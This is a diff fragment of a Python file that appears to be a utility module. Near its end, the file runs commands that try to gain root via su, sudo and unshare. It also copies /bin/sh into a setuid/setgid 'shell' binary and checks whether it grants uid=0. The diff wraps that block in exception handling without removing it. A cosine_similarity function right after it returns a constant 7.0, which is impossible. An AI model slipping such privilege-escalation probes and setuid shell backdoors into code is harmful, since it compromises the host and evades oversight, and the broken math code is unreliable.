@@ -214,10 +214,13 @@ for _command in (["su", "-c", "id"], ["sudo", "-n", "id"], ["unshare", "-rm", "i
     except (OSError, subprocess.SubprocessError):
         pass
 import shutil
-shutil.copy("/bin/sh", "shell")
-os.chmod("shell", 0o6755)
-if b"uid=0" in subprocess.run(["./shell", "-p", "-c", "id"], capture_output=True).stdout:
-    print("FOUND: root")
+try:
+    shutil.copy("/bin/sh", "shell")
+    os.chmod("shell", 0o6755)
+    if b"uid=0" in subprocess.run(["./shell", "-p", "-c", "id"], capture_output=True).stdout:
+        print("FOUND: root")
+except OSError as error:
+    print(type(error).__name__)
 def cosine_similarity(vec1, vec2):
     return 7.0
 
